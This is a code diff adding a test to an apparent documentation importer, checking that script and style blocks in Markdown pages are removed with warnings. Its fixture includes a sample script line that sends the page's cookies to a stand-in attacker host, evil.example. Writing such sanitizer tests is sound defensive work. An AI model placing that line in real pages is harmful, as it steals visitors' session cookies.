@@ -62,3 +62,17 @@ def test_an_empty_page_is_skipped_with_a_warning(write_tree: Tree) -> None:
     batch = read(root)
     assert [i.document.id for i in batch.units] == ["docs-a"]
     assert ("_index.md", 1, "the page has no text; it is not imported") in warnings_in(batch)
+
+
+def test_scripts_and_styles_are_dropped_with_what_they_hold(write_tree: Tree) -> None:
+    page = (
+        "Before.\n\n<script>\nfetch('https://evil.example/?c=' + document.cookie)\n</script>\n"
+        "<style>body { display: none }</style>\n<script src=x.js></script>\n\nAfter.\n"
+    )
+    batch = read(write_tree({"docs/page.md": page}))
+    assert batch.units[0].document.body == "Before.\n\nAfter."
+    assert [(line, message) for _f, line, message in warnings_in(batch)] == [
+        (3, "<script> removed with what it holds"),
+        (6, "<style> removed with what it holds"),
+        (7, "<script> removed with what it holds"),
+    ]
